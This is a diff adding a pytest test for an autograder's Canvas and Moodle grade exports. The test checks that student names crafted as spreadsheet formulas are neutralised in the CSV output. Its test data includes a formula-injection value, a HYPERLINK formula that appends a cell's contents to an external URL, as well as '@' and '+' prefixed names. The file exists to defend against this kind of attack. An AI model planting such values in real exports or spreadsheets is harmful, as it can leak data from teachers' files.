@@ -3,16 +3,19 @@
 from __future__ import annotations
 
 import csv
+import io
 import re
 from dataclasses import replace
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 from classes import ROSTER, SMALL, allranks
 from grading_course import LAB, Course
+from nbgrader.api import MissingEntry
 
-from autograder.classroom import Overview, overview
-from autograder.exports import ExportError, Wanted, canvas
+from autograder.classroom import Mark, Overview, Part, Row, overview
+from autograder.exports import Exercises, ExportError, Wanted, canvas, moodle
 
 pytestmark = pytest.mark.notebooks
 TITLES = [f"{LAB}: {name}" for name in ("distributed_mean", "distributed_argmax", "ring_all_reduce", "when_not_a_ring")]
@@ -89,6 +92,32 @@ def test_canvas_keeps_its_own_students_and_columns(found, tmp_path):
     assert grades["ada@example.org"][f"{TITLES[2]} (4711)"] == "6"
     assert "Nobody, Of Ours of from_canvas.csv is not in the gradebook." in told
     assert "gus is not in from_canvas.csv." in told and not any("Student, Test" in line for line in told)
+
+
+def test_no_spreadsheet_takes_a_students_name_for_a_formula(tmp_path):
+    """In whatever file a teacher opens: on some platforms students choose their names, and the roster brings them here."""
+    names = ('=HYPERLINK("https://example.org/?"&A1)', " @SUM(1)", "+1@example.org")
+    part = Part("mean", "mean-graded", "n", 2.0, False)
+    row = Row("bo", *names, "graded", 2.0, marks={"mean-graded": Mark(2.0)})
+    class_ = Overview(LAB, None, (part,), (row,))
+    roster = tmp_path / "from_canvas.csv"
+    with open(roster, "w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["Student", "ID", "SIS Login ID", "Section"], [names[0], "7", "bo", "A"]])
+    made = [io.StringIO() for _ in range(3)]
+    canvas(class_, made[0], None)
+    canvas(class_, made[1], roster)
+    moodle(class_, made[2])
+
+    def nobody(*_: str) -> None:
+        raise MissingEntry
+
+    student = SimpleNamespace(id="bo", first_name=names[0], last_name=names[1], email=names[2])
+    lab = SimpleNamespace(name=LAB, duedate=None, max_score=2.0)
+    about = Exercises()._about(SimpleNamespace(find_submission=nobody), lab, student)
+    cells = [cell for file in made for line in csv.reader(io.StringIO(file.getvalue())) for cell in line]
+    cells += map(str, about.values())
+    assert sum(names[0] in cell for cell in cells) == 4 and "2" in cells
+    assert not [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@"))]
 
 
 @pytest.mark.parametrize("text", ["", "name,points\nada,3\n", "Student,ID,Section\nGrace,1,A\n"])
